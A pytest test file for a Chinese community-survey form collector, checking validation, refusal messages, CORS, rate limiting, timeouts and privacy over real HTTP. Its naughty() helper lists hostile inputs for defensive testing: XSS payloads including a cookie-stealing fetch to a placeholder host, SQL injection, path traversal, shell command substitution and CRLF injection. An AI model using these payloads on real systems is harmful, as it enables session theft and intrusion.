"""The form collector over real HTTP: what is kept, what is refused and in which words, what is never kept."""

from __future__ import annotations

import datetime as dt
import html
import http.client
import json
import re
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import event

from noticeboard import receipts
from noticeboard.collector.database import database_at
from noticeboard.collector.limits import MOST_BYTES, AtOnce, Rate, client_of
from noticeboard.collector.refusals import Refused
from noticeboard.collector.store import Earlier, Kept, Outcome, Store, Submission, kept_in
from noticeboard.commands import listening
from noticeboard.commands.collect import Watched, prefix_of
from noticeboard.commands.fetch import fetch
from noticeboard.errors import UsageError
from noticeboard.project import Project
from noticeboard.survey.contents import HIDDEN, blacked_out
from tests.collecting import FORM, JSON, SITE, Clock, Running, kinds, need, running, town_in
from tests.conftest import DAY

CHINESE = re.compile("[\u4e00-\u9fff]")
ORIGIN = "https://example.test"


@pytest.fixture(scope="module")
def sound(tmp_path_factory: pytest.TempPathFactory) -> Watched:
    """The town's surveys, read once."""
    watched = Watched(town_in(tmp_path_factory.mktemp("collector")))
    watched.load(checked=True)
    return watched


@pytest.fixture
def live(sound: Watched, tmp_path: Path) -> Iterator[Running]:
    """A collector with a store of its own."""
    with running(Project(tmp_path), sound) as made:
        yield made


@pytest.fixture(scope="module")
def lasting(sound: Watched, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """A collector for many tries."""
    with running(Project(tmp_path_factory.mktemp("lasting")), sound) as made:
        yield made


def rows(made: Running, survey: str = "needs") -> list[Submission]:
    return list(kept_in(database_at(made.project.private), survey))


def fields(words: str = "", **more: str) -> list[tuple[str, str]]:
    """Return the fields of a page without script."""
    made = [("version", "1"), ("website", ""), ("q.category", "environment"), ("q.detail", words)]
    return [(name, more.pop(name, value)) for name, value in made] + list(more.items())


# What is kept


def test_what_a_script_sends_is_kept_once(live: Running) -> None:
    value = need("路灯坏了三天，电话13812345678")
    first = live.json("needs/chengxi", value)
    assert (first.status, first.told["id"]) == (201, value["id"])
    assert [live.json("needs/chengxi", value).status for _ in range(3)] == [200] * 3
    (row,) = rows(live)
    assert (row.id, row.community, row.version, row.seconds) == (value["id"], "chengxi", 1, 30)
    assert row.receipt == value["digest"]
    assert json.loads(row.content) == {
        "answers": {
            "category": ["environment"],
            "community": ["chengxi"],
            "detail": f"路灯坏了三天，电话{HIDDEN}",
        },
        "other": {},
    }
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", row.received)


def test_other_content_under_the_same_id_is_a_conflict(live: Running) -> None:
    value = need("第一次写的话")
    assert live.json("needs/chengxi", value).status == 201
    for path, other in (
        ("needs/chengxi", need("另外写的话", id=value["id"])),
        ("needs/chengdong", value),
        ("needs/chengxi", value | {"digest": receipts.digest(receipts.new_code())}),
        ("kinds", kinds({"one": ["a"]}, id=value["id"])),
    ):
        told = live.json(path, other)
        assert (told.status, told.told["error"]) == (409, "conflict")
    assert len(rows(live)) == 1


def test_a_code_of_somebody_else_is_refused(live: Running) -> None:
    value = need("第一次写的话")
    assert live.json("needs/chengxi", value).status == 201
    told = live.json("needs/chengxi", need("再写一份", digest=value["digest"]))
    assert (told.status, told.told["error"]) == (409, "code-taken")


def test_a_survey_that_nobody_answers_gives_no_code(live: Running) -> None:
    value = kinds({"one": ["a"]}, digest=receipts.digest(receipts.new_code()))
    assert live.json("kinds", value).status == 201
    page = live.form("kinds", [("version", "2"), ("q.one", "a")])
    assert (page.status, "回执码" in page.text) == (200, False)
    assert [row.receipt for row in rows(live, "kinds")] == ["", ""]


def test_every_kind_of_question_is_kept_in_one_shape(live: Running) -> None:
    sent = {"one": ["z"], "many": ["b", "a", "a"], "score": ["4"], "amount": " ３.5 ", "day": "2026年9月1日",
            "word": "一\t句\n话\x07\u202e", "words": "一\r\n二\u2028三\n", "why": "不该问的"}  # fmt: skip
    assert live.json("kinds", kinds(sent, other={"one": "别的"})).status == 201
    pairs = [(f"q.{k}", v) for k, vs in sent.items() for v in ([vs] if isinstance(vs, str) else vs)]
    page = live.form("kinds", [*pairs, ("q.one.other", "别的"), ("version", "2")])
    assert page.status == 200
    one, two = rows(live, "kinds")
    assert one.content == two.content
    assert json.loads(one.content) == {
        "answers": {"one": ["z"], "many": ["a", "b"], "score": ["4"], "amount": "3.5", "day": "2026-09-01",
                    "word": "一 句 话", "words": "一\n二\n三"},
        "other": {"one": "别的"},
    }  # fmt: skip
    assert "甲" not in page.text
    assert all(word in page.text for word in ("其他", "别的", "子", "丑", "一\n二\n三"))


def test_a_page_without_script_shows_the_code_and_what_was_sent(live: Running) -> None:
    page = live.form("needs/chengxi", fields("水管漏水"))
    assert page.status == 200
    (code,) = re.findall(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}", page.text)
    known = receipts.read(code)
    assert known
    (row,) = rows(live)
    assert row.receipt == receipts.digest(known)
    assert f'href="{SITE}receipt/"' in page.text
    assert all(word in page.text for word in ("收到了，谢谢", "环境卫生", "水管漏水"))
    assert "default-src 'none'" in page.headers["content-security-policy"]
    assert page.headers["cache-control"] == "no-store"
    assert not re.search(r"<script|<style|style=|\son\w+=", page.text)
    style = live.ask("GET", "style.css")
    assert (style.status, style.headers["content-type"]) == (200, "text/css; charset=utf-8")


def test_a_double_tap_without_script_gives_one_code(sound: Watched, tmp_path: Path) -> None:
    clock = Clock()
    with running(Project(tmp_path), sound, clock=clock) as made:

        def code(words: str, community: str = "chengxi") -> str:
            page = made.form(f"needs/{community}", fields(words))
            return str(re.findall(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}", page.text)[0])

        first = code("楼下的水管漏水")
        for _ in range(12):
            clock.later(seconds=49)
            assert code("楼下的水管漏水") == first
        assert len({first, code("楼下的水管漏水！"), code("楼下的水管漏水", "chengdong")}) == 3
        clock.later(minutes=9, seconds=59)
        assert code("楼下的水管漏水") != first
        # What two people may write alike is two answers.
        assert code("漏水") != code("漏水")
        assert len(rows(made)) == 6


def test_taps_at_the_same_moment_give_one_code(live: Running) -> None:
    pages: list[str] = []
    taps = [
        threading.Thread(
            target=lambda: pages.append(live.form("needs/chengxi", fields("楼下的水管漏水")).text)
        )
        for _ in range(12)
    ]
    for tap in taps:
        tap.start()
    for tap in taps:
        tap.join()
    assert len(pages) == 12
    assert len({re.findall(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}", page)[0] for page in pages}) == 1
    assert len(rows(live)) == 1


def test_the_trap_is_answered_like_success_and_kept_nowhere(live: Running) -> None:
    good, bad = need("真的有事要说"), need("机器填的话", website="http://example.invalid")
    one, two = live.json("needs/chengxi", good), live.json("needs/chengxi", bad)
    assert (one.status, set(one.told)) == (two.status, set(two.told))
    page = live.form("needs/chengxi", fields("机器填的话", website="x"))
    assert page.status == 200
    assert re.search(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{4}", page.text)
    assert [row.id for row in rows(live)] == [good["id"]]


def test_nothing_of_who_sent_is_kept(live: Running) -> None:
    marks = {
        "User-Agent": "ZEBRA-BROWSER/1.0",
        "X-Forwarded-For": "203.0.113.77",
        "X-Real-IP": "203.0.113.78",
        "Referer": f"{SITE}?ZEBRA-REFERER",
        "Cookie": "ZEBRA-COOKIE=1",
        "Accept-Language": "ZEBRA-LANGUAGE",
    }
    live.collector.behind_proxy = True
    assert live.json("needs/chengxi", need("路灯坏了三天"), marks).status == 201
    assert live.form("needs/chengxi", fields("路灯坏了四天"), marks).status == 200
    kept = [p for p in live.project.private.rglob("*") if p.is_file()]
    assert len(kept) >= 2
    for path in kept:
        assert path.stat().st_mode & 0o077 == 0, path
        body = path.read_bytes()
        for mark in (b"ZEBRA", b"203.0.113", b"127.0.0.1"):
            assert mark not in body, path


# What is refused


def wrong(answers: dict[str, Any], **more: Any) -> dict[str, Any]:
    return kinds({"one": ["a"]} | answers, **more)


REFUSED = [
    ("nothing", "kinds", kinds({}), "invalid", "one", "“选一个”这一题没有答"),
    ("blank", "kinds", kinds({"one": ["", ""]}), "invalid", "one", "没有答"),
    ("unknown question", "kinds", wrong({"nope": "x"}), "invalid", "nope", "没有"),
    ("private question", "kinds", wrong({"name": "张三"}), "invalid", "name", "没有"),
    ("receipt", "needs/chengxi", need() | {"answers": {"category": ["environment"], "receipt": "x"}}, "invalid", "receipt", "没有"),
    ("unknown option", "kinds", wrong({"many": ["a", "q"]}), "invalid", "many", "“选几个”这一题选了没有的选项"),
    ("two of one", "kinds", kinds({"one": ["a", "b"]}), "invalid", "one", "只能选一个"),
    ("too many", "kinds", wrong({"many": ["a", "b", "c"]}), "invalid", "many", "最多选2个"),
    ("off the scale", "kinds", wrong({"score": ["6"]}), "invalid", "score", "没有的选项"),
    ("shown and not answered", "kinds", kinds({"one": ["b"]}), "invalid", "why", "“为什么选乙”这一题没有答"),
    ("words beside nothing", "kinds", wrong({}, other={"one": "话"}), "invalid", "one", "同时选上"),
    ("words beside a text", "kinds", wrong({}, other={"word": "话"}), "invalid", "word", "没有“其他”"),
    ("long short", "kinds", wrong({"word": "字" * 201}), "invalid", "word", "最多写200个字，现在有201个"),
    ("long long", "kinds", wrong({"words": "字" * 2001}), "invalid", "words", "最多写2000个字"),
    ("long other", "kinds", kinds({"one": ["z"]}, other={"one": "字" * 201}), "invalid", "one", "最多写200个字"),
    ("two texts", "kinds", wrong({"word": ["a", "b"]}), "invalid", "word", "只能有一个答案"),
    ("nul", "kinds", wrong({"word": "a\0b"}), "invalid", "word", "不能用的字符"),
    ("half a character", "kinds", wrong({"word": "a\ud83d"}), "invalid", "word", "不能用的字符"),
    ("no number", "kinds", wrong({"amount": "1e9"}), "invalid", "amount", "请写一个数"),
    ("a telephone is no number", "kinds", wrong({"amount": "13812345678"}), "invalid", "amount", "请写一个数"),
    ("no date", "kinds", wrong({"day": "2026-02-30"}), "invalid", "day", "请写一个日期"),
    ("no year", "kinds", wrong({"day": "0001-02-03"}), "invalid", "day", "请写一个日期"),
    ("another community", "needs/chengxi", need() | {"answers": {"category": ["environment"], "community": ["chengdong"]}}, "invalid", "community", "请重新选社区"),
    ("no such survey", "nope/chengxi", need(), "unknown", "", "没有这份问卷"),
    ("survey without collector", "satisfaction/chengxi", need(), "unknown", "", "没有这份问卷"),
    ("no such community", "needs/nowhere", need(), "unknown", "", "没有这个社区"),
    ("no community", "needs", need(), "unknown", "", "没有"),
    ("a community too much", "kinds/chengxi", kinds({"one": ["a"]}), "unknown", "", "没有"),
    ("deeper", "needs/chengxi/more", need(), "unknown", "", "没有"),
    ("no id", "needs/chengxi", need(id=""), "malformed", "", "看不懂"),
    ("id of the wrong shape", "needs/chengxi", need(id="../x"), "malformed", "", "看不懂"),
    ("no digest", "needs/chengxi", need(digest=""), "malformed", "", "看不懂"),
    ("digest of the wrong shape", "needs/chengxi", need(digest="A" * 26), "malformed", "", "看不懂"),
    ("no version", "needs/chengxi", need(version=None), "malformed", "", "看不懂"),
    ("true is no version", "needs/chengxi", need(version=True), "malformed", "", "看不懂"),
    ("something more", "needs/chengxi", need(admin=True), "malformed", "", "看不懂"),
    ("answers in a list", "needs/chengxi", need() | {"answers": ["x"]}, "malformed", "", "看不懂"),
    ("numbers as answers", "needs/chengxi", need() | {"answers": {"category": [1]}}, "malformed", "", "看不懂"),
    ("a list", "needs/chengxi", [1], "malformed", "", "看不懂"),
    ("no JSON", "needs/chengxi", b"{", "malformed", "", "看不懂"),
    ("not UTF-8", "needs/chengxi", b'{"id":"\xff"}', "malformed", "", "看不懂"),
    ("too deep", "needs/chengxi", b"[" * 60_000, "malformed", "", "看不懂"),
    ("no number of JSON", "needs/chengxi", b'{"seconds": NaN}', "malformed", "", "看不懂"),
    ("a number without end", "needs/chengxi", b'{"version": ' + b"9" * 9_000 + b"}", "malformed", "", "看不懂"),
    ("said twice", "needs/chengxi", b'{"id": "a", "id": "b"}', "malformed", "", "看不懂"),
    ("too long", "needs/chengxi", need("字" * 30_000), "too-long", "", "太长"),
]  # fmt: skip
STATUS = {"invalid": 422, "unknown": 404, "malformed": 400, "too-long": 413}


@pytest.mark.parametrize(
    ("path", "value", "error", "question", "words"), [r[1:] for r in REFUSED], ids=[r[0] for r in REFUSED]
)  # fmt: skip
def test_what_does_not_fit_is_refused_in_words(
    lasting: Running, path: str, value: Any, error: str, question: str, words: str
) -> None:
    before = len(rows(lasting)) + len(rows(lasting, "kinds"))
    told = lasting.json(path, value)
    assert (told.status, told.told["error"]) == (STATUS[error], error)
    assert told.told.get("question", "") == question
    assert words in told.told["message"]
    assert told.told["message"].endswith(("。", "？"))
    assert told.headers["cache-control"] == "no-store"
    assert len(rows(lasting)) + len(rows(lasting, "kinds")) == before


def test_without_script_the_page_names_the_question(lasting: Running) -> None:
    page = lasting.form("kinds", [("version", "2"), ("q.one", "a"), ("q.many", "q")])
    assert (page.status, page.headers["content-type"]) == (422, "text/html; charset=utf-8")
    assert "“选几个”这一题选了没有的选项" in page.text
    assert "返回" in page.text
    for body, status in (
        (b"version=2&q.one=a&stranger=1", 400),
        (b"q.one=a", 400),
        (b"version=x&q.one=a", 400),
        (b"version=2&q.one=%ff", 400),
        (b"version=2&q.one=a&q.word=%00", 422),
        (b"version=2&q.one=a&q.word=%ed%a0%80", 400),
        ("version=2&q.one=甲".encode(), 400),
        (b"&".join([b"version=2"] * 2000), 400),
        (b"version=2&q.one=a&q.words=" + b"x" * MOST_BYTES, 413),
    ):
        page = lasting.ask("POST", "kinds", body, {"Content-Type": FORM})
        assert page.status == status, body[:40]
        assert CHINESE.search(page.text)


def test_other_types_methods_and_codings_are_refused(lasting: Running) -> None:
    for kind in ("text/plain", "multipart/form-data; boundary=x", "", "application/json5"):
        told = lasting.ask("POST", "needs/chengxi", b"{}", {"Content-Type": kind} if kind else {})
        assert (told.status, told.told["error"]) == (415, "type")
    packed = {"Content-Type": JSON, "Content-Encoding": "gzip"}
    assert lasting.ask("POST", "needs/chengxi", b"{}", packed).status == 415
    for method in ("GET", "PUT", "DELETE", "PATCH"):
        told = lasting.ask(method, "needs/chengxi")
        assert (told.status, told.told["error"]) == (405, "method")
    page = lasting.ask("GET", "needs/chengxi", headers={"Accept": "text/html"})
    assert "只收填好的问卷" in page.text
    assert "收件程序在运行" in lasting.ask("GET", "").text


def test_closed_surveys_and_those_not_yet_open_say_so(sound: Watched, tmp_path: Path) -> None:
    clock = Clock()
    with running(Project(tmp_path), sound, clock=clock) as made:
        # The last evening in UTC is the first morning in China.
        clock.now = dt.datetime(2025, 12, 31, 15, 59, tzinfo=dt.UTC)
        told = made.json("needs/chengxi", need())
        assert (told.status, told.told["error"]) == (410, "not-open")
        clock.later(minutes=2)
        assert made.json("needs/chengxi", need()).status == 201


def test_an_answer_to_an_older_form_says_that_it_changed(lasting: Running) -> None:
    told = lasting.json("kinds", kinds({"one": ["gone"]}, version=1))
    assert (told.status, "问卷改过了" in told.told["message"]) == (422, True)
    assert lasting.json("kinds", kinds({"one": ["a"]}, version=1)).status == 201


def test_pages_of_other_sites_may_not_send(lasting: Running) -> None:
    own = f"http://127.0.0.1:{lasting.port}"
    for origin, status in (
        (ORIGIN, 201), (own, 201), ("HTTPS://EXAMPLE.TEST", 201),
        ("https://evil.test", 403), ("null", 403), ("https://example.test.evil.test", 403), ("", 403),
        ("http://example.test", 403), ("https://[", 403), ("https://example.test:444", 403),
    ):  # fmt: skip
        told = lasting.json("needs/chengxi", need(), {"Origin": origin})
        assert told.status == status, origin
        allowed = told.headers.get("access-control-allow-origin", "")
        assert allowed == (origin if origin.lower() == ORIGIN else "")
        assert told.headers["vary"] == "Origin"
    # Browsers inside messengers, and pages without a referrer, send plain forms as ``null``.
    assert lasting.form("needs/chengxi", fields(), {"Origin": "null"}).status == 200
    assert lasting.form("needs/chengxi", fields(), {"Origin": "https://evil.test"}).status == 403


def test_the_sites_own_script_may_ask_across_origins(lasting: Running) -> None:
    asked = {"Origin": ORIGIN, "Access-Control-Request-Method": "POST"}
    told = lasting.ask("OPTIONS", "needs/chengxi", headers=asked)
    assert (told.status, told.headers["access-control-allow-origin"]) == (204, ORIGIN)
    assert told.headers["access-control-allow-methods"] == "POST"
    assert told.headers["access-control-allow-headers"] == "Content-Type"
    told = lasting.ask("OPTIONS", "needs/chengxi", headers=asked | {"Origin": "https://evil.test"})
    assert "access-control-allow-origin" not in told.headers
    assert "access-control-allow-methods" not in told.headers


def test_a_body_without_length_is_bounded_too(lasting: Running) -> None:
    def chunks(size: int) -> Iterator[bytes]:
        body = json.dumps(need()).encode()
        yield body + b" " * (size - len(body))

    for size, status in ((4_000, 201), (MOST_BYTES, 201), (MOST_BYTES + 1, 413), (900_000, 413)):
        line = http.client.HTTPConnection("127.0.0.1", lasting.port, timeout=20)
        headers = {"Content-Type": JSON, "Transfer-Encoding": "chunked"}
        line.request("POST", "/collect/needs/chengxi", chunks(size), headers, encode_chunked=True)
        assert line.getresponse().status == status
        line.close()
    declared = {"Content-Type": JSON, "Content-Length": "99999999999"}
    assert raw(lasting.port, declared, b"{}").startswith(b"HTTP/1.1 413 ")


def raw(port: int, headers: dict[str, str], body: bytes, wait: float = 20) -> bytes:
    """Send bytes as they are; return what comes back before the line ends or it took too long."""
    head = "".join(f"{name}: {value}\r\n" for name, value in headers.items())
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as line:
        line.sendall(
            f"POST /collect/needs/chengxi HTTP/1.1\r\nHost: x\r\n{head}\r\n".encode() + body
        )
        answer = http.client.HTTPResponse(line)
        try:
            answer.begin()
            return f"HTTP/1.1 {answer.status} \r\n\r\n".encode() + answer.read()
        except TimeoutError:
            return b"nothing"


def test_who_is_slow_is_sent_away(live: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("noticeboard.collector.incoming.SECONDS_FOR_A_BODY", 0.3)
    begun = time.monotonic()
    told = raw(live.port, {"Content-Type": JSON, "Content-Length": "500"}, b'{"id"')
    assert told.startswith(b"HTTP/1.1 408 ")
    assert CHINESE.search(told.partition(b"\r\n\r\n")[2].decode())
    assert time.monotonic() - begun < 5
    # Others are served meanwhile.
    assert live.json("needs/chengxi", need()).status == 201


def test_a_line_on_which_no_request_comes_is_ended(
    live: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listening, "SECONDS_FOR_A_HEAD", 0.3)
    monkeypatch.setattr(listening, "SECONDS_BETWEEN", 0.3)
    for begin in (b"", b"POST /collect/needs/chengxi HTTP/1.1\r\nHost: x\r\nX-Slow: "):
        with socket.create_connection(("127.0.0.1", live.port), timeout=10) as line:
            line.sendall(begin)
            assert line.recv(100) == b""
    # Also where the first request was whole and the next one is not.
    with socket.create_connection(("127.0.0.1", live.port), timeout=10) as line:
        line.sendall(b"GET /collect/style.css HTTP/1.1\r\nHost: x\r\n\r\n")
        while b"@media print" not in line.recv(65536):
            pass
        line.sendall(b"GET /collect/style.css HTTP/1.1\r\nX-Slow: ")
        rest = b""
        while piece := line.recv(65536):
            rest += piece
        assert b"200 OK" not in rest


def test_a_line_on_which_no_answer_is_taken_is_ended(
    live: Running, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(listening, "SECONDS_BETWEEN", 0.3)
    with socket.socket() as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        line.connect(("127.0.0.1", live.port))
        line.settimeout(1)
        asked = b"GET /collect/style.css HTTP/1.1\r\nHost: x\r\n\r\n" * 2000
        with pytest.raises((TimeoutError, ConnectionResetError, BrokenPipeError)):
            while True:
                line.sendall(asked)
        # Nobody waits for the rest of it: the line is gone, not only full.
        time.sleep(1)
        with pytest.raises((ConnectionResetError, BrokenPipeError)):
            while True:
                line.send(b"x")


def test_of_two_lines_of_addresses_the_proxys_counts(sound: Watched, tmp_path: Path) -> None:
    with running(Project(tmp_path), sound, rate=Rate(minute=3), behind_proxy=True) as made:
        told = []
        for number in range(5):
            body = json.dumps(need())
            line = http.client.HTTPConnection("127.0.0.1", made.port, timeout=30)
            line.putrequest("POST", "/collect/needs/chengxi")
            line.putheader("X-Forwarded-For", f"198.51.100.{number}")
            line.putheader("X-Forwarded-For", "203.0.113.9")
            line.putheader("Content-Type", JSON)
            line.putheader("Content-Length", str(len(body)))
            line.endheaders(body.encode())
            told.append(line.getresponse().status)
            line.close()
        assert told == [201, 201, 201, 429, 429]


def test_a_digest_that_reads_like_an_account_is_not_taken(live: Running) -> None:
    # Kept, it would stop every fetch: nothing is published that looks like somebody's account.
    told = live.json("needs/chengxi", need("路灯不亮", digest="wechata23456789zzzzzzzzzzz"))
    assert (told.status, told.told["error"]) == (409, "code-taken")
    assert rows(live) == []
    codes = [receipts.digest(receipts.new_code()) for _ in range(20_000)]
    assert blacked_out(codes) == codes


def test_a_flood_does_not_fill_the_disk(live: Running, monkeypatch: pytest.MonkeyPatch) -> None:
    kept = need("三号楼的路灯不亮")
    assert live.json("needs/chengxi", kept).status == 201
    with monkeypatch.context() as nearly_full:
        nearly_full.setattr("noticeboard.collector.database.LEAST_FREE", 2**62)
        told = live.json("needs/chengxi", need("路灯又不亮了"))
        assert (told.status, told.told["error"]) == (503, "unavailable")
        # What is kept already is told all the same.
        assert live.json("needs/chengxi", kept).status == 200
    assert live.json("needs/chengxi", need("路灯又不亮了")).status == 201


def test_a_flood_is_told_to_wait_and_others_are_served(sound: Watched, tmp_path: Path) -> None:
    with running(Project(tmp_path), sound, rate=Rate(), behind_proxy=True) as made:
        crowd = {"X-Forwarded-For": "198.51.100.1, 203.0.113.9"}
        told = [made.json("needs/chengxi", need(), crowd) for _ in range(70)]
        assert {one.status for one in told[:60]} == {201}
        assert told[-1].status == 429
        assert (told[-1].told["error"], int(told[-1].headers["retry-after"]) > 0) == (
            "too-many",
            True,
        )
        # What stands before the last address was written by whoever sent it.
        forged = {"X-Forwarded-For": "192.0.2.77, 203.0.113.9"}
        assert made.json("needs/chengxi", need(), forged).status == 429
        page = made.form("needs/chengxi", fields(), crowd)
        assert (page.status, "等一会儿" in page.text) == (429, True)
        others = {"X-Forwarded-For": "203.0.113.9, 198.51.100.1"}
        assert made.json("needs/chengxi", need(), others).status == 201
        made.collector.behind_proxy = False
        assert made.json("needs/chengxi", need(), crowd).status == 201


def test_the_rate_is_by_minute_and_hour_and_all_and_its_table_is_bounded() -> None:
    moment = [0.0]
    rate = Rate(per_second=5, minute=3, hour=6, clock=lambda: moment[0], most_addresses=50)

    def passed(address: str) -> bool:
        try:
            rate.pass_one(address)
        except Refused as refused:
            assert refused.wait >= 1
            return False
        return True

    assert [passed("192.0.2.1") for _ in range(4)] == [True, True, True, False]
    assert [passed(f"192.0.2.{n}") for n in range(2, 6)] == [True, True, False, False]
    moment[0] += 60
    assert [passed("192.0.2.1") for _ in range(4)] == [True, True, True, False]
    moment[0] += 60
    assert not passed("192.0.2.1")  # six in an hour
    moment[0] += 3600
    # One network of version 6 is one sender.
    assert [passed(f"2001:db8::{n}") for n in range(4)] == [True, True, True, False]
    for n in range(500):
        moment[0] += 1
        passed(f"198.51.{n // 250}.{n % 250}")
    assert len(rate) == 50
    assert client_of("10.0.0.1", "a, b", behind_proxy=False) == "10.0.0.1"
    assert client_of("10.0.0.1", "", behind_proxy=True) == "10.0.0.1"


def test_more_at_once_than_there_is_room_for_are_told_to_wait(live: Running) -> None:
    live.collector.at_once = AtOnce(0)
    assert live.json("needs/chengxi", need()).status == 429


# What people type


def naughty() -> list[str]:
    """Return five hundred texts that mean something to some program."""
    sinks = ["<script>{}</script>", "<img src=x onerror={}>", "\"><svg onload={}>", "' onmouseover='{}", "javascript:{}",
             "</textarea><script>{}</script>", "{{{{{}}}}}", "{{%{}%}}", "${{{}}}", "<!--{}-->", "]]>{}<![CDATA["]  # fmt: skip
    acts = ["alert(1)", "alert`1`", "fetch('//x.invalid/'+document.cookie)", "eval(name)", "7*7", "config", "''.__class__",
            "print(1)", "top.location='x'", "\\u0061lert(1)", "&#97;lert(1)", "%61lert(1)"]  # fmt: skip
    made = [sink.format(act) for sink in sinks for act in acts]
    made += ["'; DROP TABLE submissions;--", '" OR ""="', "1;--", "') UNION SELECT 1--", "Robert'); DELETE FROM submissions;",
             "%s%s%s%n", "%x" * 40, "{0.__class__}", "{}", "%(id)s", ":id", "?", "@@version", "=1+1", "+1", "-1", "@SUM(1)",
             "=HYPERLINK(\"x\")", "|calc", "../../etc/passwd", "C:\\con", "file:///etc/passwd", "\\\\host\\x", "`id`", "$(id)",
             "; id", "| id", "&& id", "\u200b", "\u200e\u202eabc", "مرحبا שלום", "\u0301" * 90, "👨‍👩‍👧‍👦🏳️‍🌈", "\U0001f468" * 90,
             "\ufeffa", "\x1b[31m", "\x7f", "\x85", "a\u2028b", "null", "undefined", "None", "NaN", "true", "0", "-0", "1e999",
             "𠮷野家", "ﷺ" * 30, "Z̷̢͝a̸", "\\", "\\0", "&amp;", "&lt;", "%00", "%0d%0aSet-Cookie:x", "\r\nX: y", "\ud7ff", "\ue000",
             "\U0010fffd", "İ", "ß", "ŉ", "\u202e", "١٢٣", "½", "①"]  # fmt: skip
    made += [f"{one} {other}" for one in made[:15] for other in made[-25:]]
    return list(dict.fromkeys(made))[:520]


def test_what_people_type_is_text_everywhere(live: Running) -> None:
    texts = naughty()
    assert len(texts) >= 500
    for number, text in enumerate(texts):
        words = f"{number}号说：{text}"
        if number % 2:
            told = live.json("kinds", kinds({"one": ["a"], "words": words}))
            assert told.status == 201, text
            assert text not in told.text or len(text) < 3
            continue
        page = live.form(
            "kinds", [("version", "2"), ("q.one", "z"), ("q.words", words), ("q.one.other", words)]
        )
        assert page.status == 200, text
        assert not re.search(r"<(script|img|svg|!--\w)|<[^>]*\son\w+=", page.text), text
        shown = html.unescape(re.findall(r"<dd>([^<]*号说[^<]*)</dd>", page.text)[-1])
        (kept,) = [r for r in rows(live, "kinds") if f'"{number}号说' in r.content][:1]
        assert shown == json.loads(kept.content)["answers"]["words"]
    assert len(rows(live, "kinds")) == len(texts)


def test_nothing_typed_is_echoed_where_it_is_refused(lasting: Running) -> None:
    mark = "<script>ZEBRA</script>"
    for path, value in (
        ("kinds", kinds({"one": [mark], mark: mark}, other={mark: mark})),
        ("kinds", kinds({"one": ["a"], "amount": mark, "word": mark * 20})),
        ("needs/ZEBRA", need()),
        ("ZEBRA", need()),
    ):
        assert "ZEBRA" not in lasting.json(path, value).text.replace(
            '"question":"<script>ZEBRA</script>"', ""
        )
        pairs = [("version", "2"), (f"q.{mark}", mark), ("q.one", mark)]
        assert "ZEBRA" not in lasting.form(path, pairs).text


JSONS = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=9), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip
NAMES = st.sampled_from(
    ["one", "many", "score", "amount", "day", "word", "words", "why", "name", "x"]
)
VALUES = st.lists(st.sampled_from("abz145q") | st.text(max_size=30), max_size=3) | st.text() | JSONS
NEARLY = st.fixed_dictionaries(
    {
        "id": st.uuids().map(str) | JSONS,
        "version": st.just(2) | st.integers() | JSONS,
        "answers": st.dictionaries(NAMES, VALUES, max_size=8) | JSONS,
    },
    optional={
        "digest": st.just("a" * 26) | JSONS,
        "other": st.dictionaries(NAMES, st.text()) | JSONS,
        "seconds": st.integers(0, 9999) | JSONS,
        "website": st.just("") | JSONS,
    },
)


@given(value=NEARLY | JSONS)
@example(
    value={"id": str(uuid.UUID(int=1)), "version": 2, "answers": {"one": ["a"], "word": "\ud800"}}
)
@settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))
def test_whatever_json_is_sent_the_answer_is_in_words(lasting: Running, value: Any) -> None:
    told = lasting.json("kinds", value)
    assert 200 <= told.status < 300 or 400 <= told.status < 500, told.text
    assert CHINESE.search(told.told["message"])


@given(body=st.binary(max_size=300) | st.lists(st.tuples(st.text(), st.text())).map(lambda p: urlencode([(k.encode("utf-8", "replace"), v.encode("utf-8", "replace")) for k, v in p]).encode()),
       kind=st.sampled_from([FORM, JSON, "text/html", FORM + "; charset=gbk"]))  # fmt: skip
@settings(max_examples=200, deadline=None, suppress_health_check=list(HealthCheck))
def test_whatever_bytes_are_sent_the_answer_is_in_words(
    lasting: Running, body: bytes, kind: str
) -> None:
    told = lasting.ask("POST", "kinds", body, {"Content-Type": kind})
    assert 200 <= told.status < 500, told.text
    assert CHINESE.search(told.text)


# The store


def submission(number: int, **more: Any) -> Submission:
    content = json.dumps({"answers": {"n": str(number)}, "other": {}})
    made: dict[str, Any] = {"id": str(uuid.UUID(int=number)), "survey": "needs", "community": "chengxi", "version": 1,
            "received": f"2026-11-24T04:00:{number % 60:02}.000Z", "seconds": None, "receipt": "",
            "content": content, "fingerprint": str(hash(content))}  # fmt: skip
    return Submission(**(made | more))


def test_one_that_cannot_be_kept_does_not_harm_the_others(tmp_path: Path) -> None:
    store = Store(database_at(tmp_path))
    hold = threading.Event()
    real = store._next

    def later() -> Any:
        hold.wait(5)
        return real()

    store._next = later  # type: ignore[method-assign]
    first = store.put(submission(0))
    futures = [store.put(submission(n)) for n in range(1, 20)]
    bad = store.put(submission(50, content="\ud800"))
    huge = store.put(submission(51, seconds=2**70))
    twice = store.put(submission(3))
    other = store.put(submission(4, fingerprint="other"))
    hold.set()
    kept = [future.result(10) for future in [first, *futures]]
    assert {one.outcome for one in kept} == {Outcome.STORED}
    assert twice.result(10).outcome is Outcome.KNOWN
    assert other.result(10).outcome is Outcome.CONFLICT
    for failed in (bad, huge):
        assert "StoreError" in repr(failed.exception(10))
    store.close()
